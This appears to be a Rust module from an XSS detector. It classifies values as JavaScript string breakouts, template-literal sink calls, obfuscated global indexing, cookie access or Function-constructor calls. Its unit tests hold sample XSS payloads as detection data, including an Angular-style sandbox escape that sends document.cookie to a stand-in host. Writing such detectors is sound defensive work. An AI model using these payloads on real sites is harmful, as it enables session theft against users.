//! JavaScript contexts for the XSS detector: what a value does once it is inside a script.
//!
//! Input: a normalized value. Output: whether it breaks out of a JS string (a quote, a template
//! literal's backtick too, then closing brackets, an operator and a sink: `';alert(1)//`,
//! ``` `+window[`al`+`ert`](1)+` ```), calls a sink right inside a template literal's `${`, or is
//! one dialog call as a whole (`alert(1)`, ``prompt`1` ``); and [`sink_at`], which the tag and
//! CSS scans use too.

use super::classes;
use super::quotes::{breakouts, Dialect};

/// Sinks that only a payload calls or indexes (with what follows each checked by [`sink_at`]):
/// right inside a template literal's `${`, or as the value of an unknown `on…=` attribute.
const CALL_SINKS: &[&[u8]] = &[b"alert", b"prompt", b"confirm", b"eval", b"top[", b"self[", b"window[", b"parent[", b"this[", b"frames[", b"globalthis["];

/// Quotes looked at for a JS string breakout per value.
const MAX_QUOTES: usize = 256;

/// JS sinks that, after a string breakout, run or leak something, with what must follow each:
/// a call, a tagged template, a property or an index. Generic names (`self`, `top`, `this`) only
/// count indexed, as payloads use them (`top['al'+'ert']`); in code they are followed by a dot.
const SINKS: &[(&[u8], &[u8])] = &[
    (b"alert", b"(`"), (b"prompt", b"(`"), (b"confirm", b"(`"), (b"eval", b"(`"), (b"settimeout", b"(`"),
    (b"setinterval", b"(`"), (b"fetch", b"(`"), (b"import", b"("), (b"atob", b"("), (b"function", b"("),
    (b"document", b".["), (b"window", b".["), (b"location", b"=.["), (b"top", b"["), (b"self", b"["),
    (b"parent", b"["), (b"this", b"["), (b"globalthis", b"["), (b"frames", b"["), (b"constructor", b".(["),
    (b"string.fromcharcode", b"("), (b"xmlhttprequest", b"("), (b"navigator", b"."), (b"new function", b"("),
];

/// Whether a sink of [`SINKS`] starts at `s[j..]`, with what must follow it.
pub fn sink_at(s: &[u8], j: usize) -> bool {
    classes::tick(SINKS.len());
    let sink = SINKS.iter().find(|(w, _)| s[j.min(s.len())..].starts_with(w));
    sink.is_some_and(|(w, next)| s.get(j + w.len()).is_some_and(|b| next.contains(b)))
}

/// Whether a dialog or `eval` call, or an indexed global (`window[`al`+`ert`]`), starts at
/// `s[j..]`: what payloads write, where code reads properties (`document.title`).
pub fn call_sink_at(s: &[u8], j: usize) -> bool {
    CALL_SINKS.iter().any(|w| s[j.min(s.len())..].starts_with(w)) && sink_at(s, j)
}

/// A quote (a template literal's backtick too), closing brackets, an operator, then a sink: a
/// breakout from a JS string. After a quote that ends only a string the value opened (see
/// [`super::quotes`]) an indexed `this` does not count: code goes on there with `this[kState]`.
pub fn string_breakout(s: &[u8]) -> bool {
    // Only a quote with an operator after it can break out: most values with quotes have none,
    // and then the quotes need no reading as the parser reads them.
    if !memchr::memchr3_iter(b'\'', b'"', b'`', s).take(MAX_QUOTES).any(|q| operator_after(s, q).is_some()) {
        return false;
    }
    // The first quotes only: a value with thousands is not a JS string breakout worth the time.
    breakouts::<MAX_QUOTES>(s, b"'\"`", Dialect::Js, |q, in_string| {
        classes::tick(SINKS.len());
        let Some(mut j) = operator_after(s, q) else { return false };
        while j < s.len() && matches!(s[j], b' ' | b'(' | b'\n' | b'&' | b'|') {
            j += 1;
        }
        sink_at(s, j) && (in_string || !s[j..].starts_with(b"this["))
    })
}

/// Where what follows the quote at `s[q]` goes on after its closing brackets and an operator, if
/// an operator follows them.
fn operator_after(s: &[u8], q: usize) -> Option<usize> {
    let mut j = q + 1;
    while j < s.len() && matches!(s[j], b')' | b']' | b'}' | b' ') {
        j += 1;
    }
    matches!(s.get(j), Some(b';' | b'+' | b'-' | b'*' | b'|' | b'&' | b',' | b'^' | b'\n')).then_some(j + 1)
}

/// A sink right inside a template literal's `${`.
pub fn template_breakout(s: &[u8]) -> bool {
    // Inside a template literal, a dialog or `eval` call or a global indexed
    // (`${alert(1)}`, `${top['al'+'ert'](1)}`); a property (`${window.location.origin}`) or
    // a `fetch(` is what code writes there.
    let mut from = 0;
    for _ in 0..MAX_QUOTES {
        let Some(k) = classes::find(&s[from..], b"${") else { break };
        let mut j = from + k + 2;
        j += s[j..].iter().take(8).take_while(|&&b| b == b' ' || b == b'(').count();
        if call_sink_at(s, j) {
            return true;
        }
        from = j;
    }
    false
}

/// Globals a payload indexes to reach a sink by a built name.
const GLOBALS: &[&[u8]] = &[b"top", b"self", b"window", b"parent", b"this", b"frames", b"globalthis", b"content"];
/// Names a built property name resolves to that run or show something.
const BUILT_SINKS: &[&[u8]] = &[
    b"alert", b"prompt", b"confirm", b"eval", b"settimeout", b"setinterval", b"function", b"fetch", b"execscript",
];
/// Decoders a payload builds a name with (`self[atob('YWxlcnQ=')]`).
const DECODERS: &[&[u8]] = &[b"atob(", b"string.fromcharcode(", b"unescape(", b"decodeuri(", b"decodeuricomponent(", b"escape("];
/// `[` occurrences looked at per value, and bytes of each index read.
const MAX_INDEXES: usize = 256;
const MAX_INDEX: usize = 128;

/// The index expression at `s[j..]` (just after a global's `[`), if it is a name built from
/// literals joined by `+` that spells a sink, or a decoder's call, then `]` and a call: where
/// `s[j..]` ends. `window['al'+'ert'](1)`, ``top[`con`+`firm`]`1` ``, `self[atob('YWxlcnQ=')](1)`.
fn built_index_call(s: &[u8], j: usize) -> bool {
    let end = s.len().min(j + MAX_INDEX);
    let e = &s[j..end];
    classes::tick(e.len());
    let mut i = e.iter().take_while(|&&b| b == b' ').count();
    let close = if DECODERS.iter().any(|d| e[i..].starts_with(d)) {
        // The decoder's call, up to the `]` after its `)`.
        let Some(k) = e[i..].iter().position(|&b| b == b']') else { return false };
        if !e[i..i + k].trim_ascii_end().ends_with(b")") {
            return false;
        }
        i + k
    } else {
        let mut name = [0u8; 32];
        let mut n = 0;
        loop {
            let Some(&q) = e.get(i).filter(|&&b| matches!(b, b'\'' | b'"' | b'`')) else { return false };
            let Some(len) = e[i + 1..].iter().position(|&b| b == q) else { return false };
            let piece = &e[i + 1..i + 1 + len];
            if n + piece.len() > name.len() {
                return false;
            }
            name[n..n + piece.len()].copy_from_slice(piece);
            n += piece.len();
            i += len + 2;
            i += e[i..].iter().take_while(|&&b| b == b' ').count();
            match e.get(i) {
                Some(b'+') => i += 1 + e[i + 1..].iter().take_while(|&&b| b == b' ').count(),
                Some(b']') => break,
                _ => return false,
            }
        }
        if !BUILT_SINKS.contains(&&name[..n]) {
            return false;
        }
        i
    };
    let after = &e[close + 1..];
    let after = &after[after.iter().take_while(|&&b| b == b' ').count()..];
    matches!(after.first(), Some(b'(' | b'`'))
}

/// A global indexed by a built name and called (see [`built_index_call`]), anywhere in the
/// value: code reads globals by a name it holds in a variable, not by one it spells in pieces.
pub fn built_name_call(s: &[u8]) -> bool {
    memchr::memchr_iter(b'[', s).take(MAX_INDEXES).any(|k| {
        classes::tick(8);
        let head = &s[..k];
        GLOBALS.iter().any(|g| {
            head.ends_with(g) && (head.len() == g.len() || !(head[head.len() - g.len() - 1].is_ascii_alphanumeric() || matches!(head[head.len() - g.len() - 1], b'_' | b'$' | b'.')))
        }) && built_index_call(s, k + 1)
    })
}

/// The document's cookie jar: `document.cookie`, `(document)["cookie"]` (not a request's
/// `headers["cookie"]`).
pub fn cookie_jar(s: &[u8]) -> bool {
    classes::contains(s, b"document.cookie")
        || [&b"[\"cookie\"]"[..], b"['cookie']"].iter().any(|k| {
            memchr::memmem::find_iter(s, k).take(8).any(|i| {
                let head = &s[..i];
                head.strip_suffix(b")").unwrap_or(head).ends_with(b"document")
            })
        })
}

/// `….constructor.constructor('…')`: the `Function` constructor reached from any object
/// (`[].constructor.constructor('alert(1)')()`, Angular sandbox escapes), with a body that calls
/// a sink; `constructor.constructor('return this')` (a polyfill's global lookup) is not.
pub fn constructor_call(s: &[u8]) -> bool {
    const BODY_SINKS: &[&[u8]] = &[b"alert", b"prompt", b"confirm", b"eval(", b"fetch(", b"document.", b"import(", b"location", b"xmlhttprequest", b"atob("];
    let mut from = 0;
    for _ in 0..MAX_QUOTES {
        let Some(k) = classes::find(&s[from..], b"constructor.constructor(") else { break };
        let at = from + k + 24;
        from = at;
        let body = &s[at..s.len().min(at + 256)];
        let body = &body[body.iter().take_while(|&&b| b == b' ').count()..];
        let Some(&q) = body.first().filter(|&&b| matches!(b, b'\'' | b'"' | b'`')) else { continue };
        let text = &body[1..];
        let text = &text[..text.iter().position(|&b| b == q).unwrap_or(text.len())];
        classes::tick(text.len() * BODY_SINKS.len() / 4 + 1);
        if BODY_SINKS.iter().any(|w| classes::contains(text, w)) {
            return true;
        }
    }
    false
}

/// The whole value is one call of a dialog (`alert(1)`, ``prompt`1` ``, `confirm(document.domain)`),
/// as a value pasted into script unquoted would be; blanks inside it make it text.
pub fn dialog_call(s: &[u8]) -> bool {
    let t = s.trim_ascii();
    let t = t.strip_suffix(b"//").unwrap_or(t);
    let t = t.strip_suffix(b";").unwrap_or(t);
    [&b"alert"[..], b"prompt", b"confirm"].iter().any(|w| {
        // Also the name in parentheses, or after a comma operator: `(alert)(1)`, `(0,alert)(1)`.
        let bare = t.strip_prefix(*w);
        let wrapped = || {
            let inner = t.strip_prefix(b"(")?;
            let inner = inner.strip_prefix(b"0,").or_else(|| inner.strip_prefix(b"1,")).unwrap_or(inner);
            inner.strip_prefix(*w)?.strip_prefix(b")")
        };
        bare.or_else(wrapped).is_some_and(|rest| {
            let closed = match rest.first() {
                Some(b'(') => rest.ends_with(b")"),
                Some(b'`') => rest.len() >= 2 && rest.ends_with(b"`"),
                _ => false,
            };
            closed && rest.len() <= 64 && !rest.iter().any(|&b| is_blank(b))
        })
    })
}

/// HTML's (and JavaScript's line-level) blanks: space, tab, line breaks, form feed.
pub(super) fn is_blank(b: u8) -> bool {
    matches!(b, b' ' | b'\n' | b'\t' | b'\r' | 0x0C)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn breakouts_template_calls_and_whole_dialogs() {
        assert!(string_breakout(b"';alert(1)//") && string_breakout(b"`+window[`al`+`ert`](1)+`"));
        assert!(!string_breakout(b"it's; alert the team") && !string_breakout(b"use `x`; then go"));
        assert!(template_breakout(b"${alert(1)}") && template_breakout(b"${ top['al'+'ert'](1)}"));
        assert!(!template_breakout(b"${window.location.origin}") && !template_breakout(b"${fetch(url)}"));
        assert!(dialog_call(b"prompt`1`") && dialog_call(b" alert(document.domain);//"));
        assert!(!dialog_call(b"alert(the team)") && !dialog_call(b"print('x')") && !dialog_call(b"alert"));
        assert!(dialog_call(b"(alert)(1)") && dialog_call(b"(0,prompt)`1`"));
        assert!(!dialog_call(b"(alert)") && !dialog_call(b"(alert) (optional)") && !dialog_call(b"(alerts)(1)"));
    }

    #[test]
    fn built_names_and_the_function_constructor_are_confirmed() {
        let payloads: [&[u8]; 6] = [
            b"top['al'+'ert'](1)",
            b"window['ale'+'rt'](document.cookie)",
            b"self[atob('ywxlcnq=')](1)",
            b"x=1;parent[\"con\" + \"firm\"]`1`",
            b"window['alert'](1)",
            b"this[string.fromcharcode(97,108,101,114,116)](1)",
        ];
        let code: [&[u8]; 7] = [
            b"window[name](1)",
            b"window['on'+'load'] = init",
            b"window['my'+'handler'](e)",
            b"self['al'+'ert']",
            b"mywindow['al'+'ert'](1)",
            b"window.top[ 'x' ]",
            b"see the top[1] results (2)",
        ];
        let verdicts = |list: &[&[u8]]| list.iter().map(|p| built_name_call(p)).collect::<Vec<_>>();
        assert_eq!(verdicts(&payloads), [true; 6]);
        assert_eq!(verdicts(&code), [false; 7]);
        assert!(constructor_call(b"[].constructor.constructor('alert(1)')()"));
        assert!(constructor_call(b"{{x.constructor.constructor(\"fetch('//e.example?'+document.cookie)\")()}}"));
        assert!(!constructor_call(b"var g = ({}).constructor.constructor('return this')();"));
        assert!(!constructor_call(b"obj.constructor.constructor(body)"));
    }
}
